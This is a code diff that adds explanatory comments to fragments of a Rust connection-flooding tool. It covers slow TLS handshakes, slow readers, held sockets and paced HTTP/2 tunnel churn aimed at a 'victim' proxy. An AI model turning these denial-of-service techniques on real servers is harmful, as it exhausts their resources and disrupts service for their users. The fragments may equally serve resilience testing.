@@ -106,6 +106,7 @@ impl Pace {
 
     fn pause(&mut self) -> Duration {
         let now = Instant::now();
+        // Without `max` a machine that was busy would get all that it missed in one burst.
         self.next = (self.next + self.every).max(now);
         self.next - now
     }
@@ -118,6 +119,7 @@ fn sockets(args: &FloodArgs) -> Value {
     while !stop.load(std::sync::atomic::Ordering::Relaxed) {
         match once(args) {
             Ok(socket) => held.extend(socket),
+            // A refusal is what a protected proxy may answer: it is counted and ends nothing.
             Err(_) => failed += 1,
         }
         // Slow readers stay: what counts is what is kept for them.
@@ -127,6 +129,7 @@ fn sockets(args: &FloodArgs) -> Value {
                 thread::sleep(Duration::from_millis(10));
             }
         } else if is_full {
+            // Dropped, and so closed with FIN.
             held.pop_front();
         }
         done += 1;
@@ -152,6 +155,7 @@ fn once(args: &FloodArgs) -> io::Result<Option<TcpStream>> {
         }
         // 22 is the type of a handshake record (RFC 8446, section 5.1): the victim has to wait for the rest.
         Flood::Hellos => socket.write_all(&[22])?,
+        // The kernel's receive buffer fills, and then whatever the proxy keeps.
         Flood::Readers => bulk::ask(&mut socket, 1, ENDLESS)?,
         Flood::Streams | Flood::Headers => return Err(io::ErrorKind::Unsupported.into()),
     }
@@ -170,6 +174,7 @@ async fn requests(args: &FloodArgs) -> io::Result<Value> {
         tunnels += 1;
         let mut client = client;
         while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+            // The proxy has closed the tunnel: the outer loop opens the next one.
             let Ok(ready) = client.ready().await else { break };
             client = ready;
             let Ok((answer, mut send)) = client.send_request(request(args)?, false) else { break };
@@ -180,6 +185,7 @@ async fn requests(args: &FloodArgs) -> io::Result<Value> {
             done += 1;
             tokio::time::sleep(pace.pause()).await;
         }
+        // The connection is dropped without GOAWAY, as by a client that is killed.
         driver.abort();
         tokio::time::sleep(pace.pause()).await;
     }
